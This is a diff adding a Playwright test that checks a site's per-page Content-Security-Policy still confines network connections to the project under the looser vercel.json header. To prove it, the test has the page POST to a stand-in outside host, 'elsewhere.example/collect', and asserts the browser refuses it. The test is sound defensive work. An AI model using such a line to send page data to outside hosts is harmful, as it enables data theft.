@@ -1,4 +1,5 @@
 import { randomUUID } from 'node:crypto'
+import { readFileSync } from 'node:fs'
 import { ROUTES } from '../../src/app/route-table'
 import { paths } from '../../src/config/paths'
 import { scriptHash } from '../../scripts/hosting/host-policy'
@@ -157,6 +158,42 @@ test('the login page and every back-office screen run under the shipped headers 
   await page.getByRole('button', { name: 'Publish', exact: true }).click()
   await expect(page.getByRole('textbox', { name: 'Title', exact: true })).toHaveAttribute('aria-invalid', 'true')
   expect(violations).toEqual([])
+})
+
+/** The Content-Security-Policy header of the committed vercel.json: it names no project. */
+function vercelHeaderPolicy(): string {
+  const config = JSON.parse(readFileSync('vercel.json', 'utf8')) as { headers: Array<{ source: string; headers: Array<{ key: string; value: string }> }> }
+  return config.headers.find((rule) => rule.source === '/(.*)')!.headers.find((header) => header.key === 'Content-Security-Policy')!.value
+}
+
+test('under vercel.json\'s header, which names no project, each page\'s own policy still holds the site to its project', async ({ page }) => {
+  const neutral = vercelHeaderPolicy()
+  expect(neutral).not.toContain(stackUrl)
+  // The pages as Vercel would answer them: the build's files, the committed file's header.
+  await page.route('**/*', async (route) => {
+    if (route.request().resourceType() !== 'document') return route.continue()
+    const response = await route.fetch()
+    await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': neutral } })
+  })
+  const violations = await recordViolations(page)
+  for (const address of ['/', BLOG_POST]) {
+    const response = await page.goto(address)
+    expect(response?.headers()['content-security-policy']).toBe(neutral)
+    await expect(page.locator('h1').first(), address).toBeVisible()
+  }
+  // (The header is made for an https project; this stack is plain http, so its own refusals of
+  // the stack's address are left aside: that the header allows every https project's policy is
+  // a unit test of the policy.)
+  const elsewhere = () => violations.filter((line) => line.includes('elsewhere.example'))
+  expect(elsewhere()).toEqual([])
+
+  // The header alone would let a script send data to any https host; the page's <meta> does not.
+  await page.evaluate(() => fetch('https://elsewhere.example/collect', { method: 'POST', body: 'x' }).catch(() => undefined))
+  await expect
+    .poll(() => elsewhere().filter((line) => !line.startsWith('console:')))
+    .toEqual([expect.stringMatching(/connect-src refused https:\/\/elsewhere\.example\/collect/)])
+  // Refused by the policy naming the project: the page's own.
+  expect(elsewhere()).toContainEqual(expect.stringContaining(`connect-src 'self' ${stackUrl} `))
 })
 
 test('an unknown address answers 404 with the not-found page, under the same headers', async ({ page, request }) => {
